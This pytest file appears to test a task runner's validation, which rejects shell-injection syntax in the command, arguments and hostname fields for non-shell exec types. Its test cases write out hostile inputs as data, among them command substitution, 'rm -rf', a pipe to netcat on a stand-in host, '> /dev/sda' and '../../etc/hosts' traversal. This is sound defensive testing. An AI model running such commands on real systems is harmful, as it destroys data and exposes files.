"""Security validation stays strict for every exec type but shell (docs/command-line.md); local never starts a shell."""

from __future__ import annotations

import pytest
from support import compile_text

from tasker.runners.exectypes import ExecConfig, ExecTypes

NON_SHELL = ["local", "ssh", "pbrun", "p7s", "wwrs", "SSH"]

# (field, value, fragment of the error): each is an error for every exec type except shell.
CASES = [
    ("arguments", "test $(whoami) injection", "shell command syntax `$(whoami)`"),
    ("arguments", "a; rm -rf /tmp/x", "shell command syntax"),
    ("arguments", "run `id`", "shell command syntax"),
    ("arguments", "x && rm y", "shell command syntax"),
    ("arguments", "a | nc evil 80", "shell command syntax"),
    ("arguments", "> /dev/sda", "shell command syntax"),
    ("command", "echo;", "shell character ';'"),
    ("command", "ls|sh", "shell character '|'"),
    ("command", "$(id)", "shell command syntax"),
    ("hostname", "host;x", "shell character ';'"),
    ("hostname", "h$(id)", "shell command syntax"),
]

# Errors for every exec type, shell included.
ALWAYS = [
    ("arguments", "../../etc/hosts", "path-traversal"),
    ("arguments", "x" * 2001, "the limit is 2000"),
    ("hostname", "web1|x", "shell character '|'"),
]


def errors(field: str, value: str, exec_type: str) -> list[str]:
    fields = {"hostname": "web1", "command": "echo", "arguments": "hi", field: value}
    text = "task=0\n" + "".join(f"{k}={v}\n" for k, v in fields.items()) + f"exec={exec_type}\n"
    _wf, diags = compile_text(text)
    return [d.message for d in diags.errors]


@pytest.mark.parametrize("exec_type", NON_SHELL)
@pytest.mark.parametrize("field, value, fragment", CASES + ALWAYS)
def test_security_errors_apply_to_every_non_shell_exec_type(exec_type, field, value, fragment):
    found = errors(field, value, exec_type)
    assert any(fragment in m for m in found), found


@pytest.mark.parametrize("field, value, fragment", ALWAYS)
def test_some_errors_apply_to_shell_too(field, value, fragment):
    found = errors(field, value, "shell")
    assert any(fragment in m for m in found), found


def test_shell_relaxes_the_injection_checks_and_ssh_does_not():
    assert errors("arguments", "$(date) | tr a b", "shell") == []
    assert errors("arguments", "$(date) | tr a b", "ssh") != []


def test_the_error_says_how_the_exec_type_passes_the_text():
    _wf, diags = compile_text("task=0\nhostname=web1\ncommand=echo\narguments=$(id)\nexec=ssh\n")
    assert "exec=ssh passes it on as literal words" in diags.errors[0].help


def test_harmless_punctuation_in_ssh_arguments_is_accepted():
    assert errors("arguments", "\"a  b\" it\\'s 'x; y' a;b $HOME cost:$5 '*' a>b", "ssh") == []


# ----------------------------------------------------------------- local never starts a shell

SHELLISH = {"platforms": {"linux": {
    "local": {"binary": "/bin/sh", "command_template": ["{binary}", "-c", "{command} {arguments}"]},
    "shell": {"binary": "/bin/sh", "command_template": ["{binary}", "-c", "{command} {arguments}"]},
}}, "aliases": {"local": "shell"}}


def test_local_is_the_built_in_type_even_if_the_config_defines_or_aliases_it():
    types = ExecTypes(environ={})
    types.use_config(ExecConfig("cfg.yaml", SHELLISH))
    assert types.canonical("local") == types.canonical("LOCAL") == "local"
    assert types.argv("local", "h", "echo", "a;b 'c d' x>y") == ["echo", "a;b", "c d", "x>y"]


def test_local_passes_shell_syntax_as_literal_words(tasker):
    flow = tasker.write("task=0\nhostname=localhost\ncommand=printf\n"
                        "arguments=\"<%s>\\n\" a;b x>made-by-a-shell '*' a|b $TASKER_TEST_UNSET\nexec=local\n")
    r = tasker.run(flow, "-r")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "STDOUT: <a;b>\\n<x>made-by-a-shell>\\n<*>\\n<a|b>\\n<$TASKER_TEST_UNSET>" in r.stdout
    assert not (tasker.tmp / "made-by-a-shell").exists()
